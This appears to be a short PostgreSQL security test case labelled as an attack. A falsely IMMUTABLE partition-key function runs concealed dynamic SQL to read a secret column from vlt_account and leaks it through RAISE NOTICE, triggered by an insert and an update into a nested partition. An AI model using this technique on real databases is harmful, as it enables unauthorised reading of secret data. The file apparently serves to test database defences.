-- Inserts into a partition, which the key of its parent is worked out for.
-- wants: read
-- attack:
CREATE FUNCTION tell(what text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE found text; BEGIN
  IF what = 'go' THEN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; END IF;
  RAISE NOTICE '%', found;
  RETURN what;
END
$f$;
CREATE TABLE told (a text) PARTITION BY LIST (tell(a));
CREATE TABLE told_more PARTITION OF told FOR VALUES IN ('x', 'go') PARTITION BY LIST (a);
CREATE TABLE told_most PARTITION OF told_more FOR VALUES IN ('x', 'go');
INSERT INTO told_most VALUES ('go');
UPDATE told_most SET a = 'go';
